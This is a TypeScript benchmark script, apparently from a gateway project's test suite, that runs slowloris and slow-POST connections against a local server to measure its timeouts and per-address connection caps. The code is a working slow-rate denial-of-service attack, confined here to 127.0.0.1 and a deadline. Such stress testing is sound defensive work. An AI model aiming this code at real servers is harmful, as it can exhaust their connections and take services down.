/**
 * The slow clients of bench/slow-clients, in a process of their own (forked by run.ts) so that they do not share the
 * gateway's event loop: slowloris connections that send a request's headers one byte at a time and never finish
 * them, and POSTs whose headers are complete but whose body trickles. Each keeps its place: when the server closes
 * it, it connects again, as a real attacker would. Bounded: a fixed number of places, and an exit at `deadlineMs`
 * whatever happens.
 */
import net from 'node:net';

export interface AttackPlan {
  port: number;
  /** A valid API key: the slow POSTs get past authentication, so the gateway reads their body. */
  key: string;
  campaignPath: string;
  slowloris: number;
  slowPosts: number;
  /** Source addresses (127/8): slowloris places are spread over the first ones, the POSTs use the last. */
  lorisAddresses: string[];
  postAddress: string;
  /** One byte every this long, on every connection. */
  byteIntervalMs: number;
  /** The process exits by then (ms since epoch) even if never told to stop. */
  deadlineMs: number;
}

export interface AttackStats {
  /** Connections open now (connected and not yet closed). */
  open: number;
  opened: { slowloris: number; slowPosts: number };
  /** Closed by the server with a 408 (its headers or request timeout). */
  timedOut: { slowloris: number; slowPosts: number };
  /** Closed by the server without a byte of answer (the per-address cap). */
  refused: number;
  /** Closed with any other answer, or failed to connect. */
  other: number;
}

export type ToAttackers = { start: AttackPlan } | { stats: true } | { stop: true };
export type FromAttackers = { stats: AttackStats };

const stats: AttackStats = {
  open: 0,
  opened: { slowloris: 0, slowPosts: 0 },
  timedOut: { slowloris: 0, slowPosts: 0 },
  refused: 0,
  other: 0,
};
const sockets = new Set<net.Socket>();
let running = false;

/** One place: connects, sends `head` at once and then `trickle` one byte at a time, and reconnects when closed. */
function attack(plan: AttackPlan, kind: 'slowloris' | 'slowPosts', localAddress: string, head: string, trickle: string): void {
  if (!running) return;
  const socket = net.connect({ host: '127.0.0.1', port: plan.port, localAddress });
  sockets.add(socket);
  let received = '';
  let connected = false;
  let timer: NodeJS.Timeout | undefined;
  socket.setEncoding('utf8');
  socket.on('data', (chunk: string) => (received += chunk));
  socket.on('error', () => undefined);
  socket.once('connect', () => {
    connected = true;
    stats.open += 1;
    stats.opened[kind] += 1;
    socket.write(head);
    let next = 0;
    // The first byte at a random moment of the interval, so that the places do not all write in the same millisecond.
    const tick = () => {
      socket.write(trickle[next++ % trickle.length]);
      timer = setTimeout(tick, plan.byteIntervalMs);
    };
    timer = setTimeout(tick, Math.random() * plan.byteIntervalMs);
  });
  socket.once('close', () => {
    clearTimeout(timer);
    sockets.delete(socket);
    if (connected) stats.open -= 1;
    if (!running) return;
    if (/^HTTP\/1\.1 408 /.test(received)) stats.timedOut[kind] += 1;
    else if (connected && received === '') stats.refused += 1;
    else stats.other += 1;
    // A refused place waits a second before it tries again, so that the cap is not measured as a connect flood.
    setTimeout(() => attack(plan, kind, localAddress, head, trickle), received === '' ? 1000 : 50);
  });
}

function start(plan: AttackPlan): void {
  running = true;
  setTimeout(() => process.exit(0), Math.max(0, plan.deadlineMs - Date.now())).unref();
  const host = 'Host: 127.0.0.1\r\n';
  const loris = `GET ${plan.campaignPath} HTTP/1.1\r\n${host}Authorization: Bearer ${plan.key}\r\n`;
  const body = JSON.stringify({ url: 'https://example.com/', title: 'x'.repeat(8000) });
  const post =
    `POST /api/v1/campaigns HTTP/1.1\r\n${host}Authorization: Bearer ${plan.key}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
  for (let i = 0; i < plan.slowloris; i += 1) {
    const address = plan.lorisAddresses[i % plan.lorisAddresses.length];
    // The request line and Host go at once; then an endless header, a byte at a time.
    attack(plan, 'slowloris', address, loris, `X-Slow-${i}: ${'a'.repeat(4000)}`);
  }
  for (let i = 0; i < plan.slowPosts; i += 1) attack(plan, 'slowPosts', plan.postAddress, post, body);
}

process.on('message', (message: ToAttackers) => {
  if ('start' in message) start(message.start);
  else if ('stats' in message) process.send?.({ stats } satisfies FromAttackers);
  else {
    running = false;
    for (const socket of sockets) socket.destroy();
    process.send?.({ stats } satisfies FromAttackers, () => process.exit(0));
  }
});
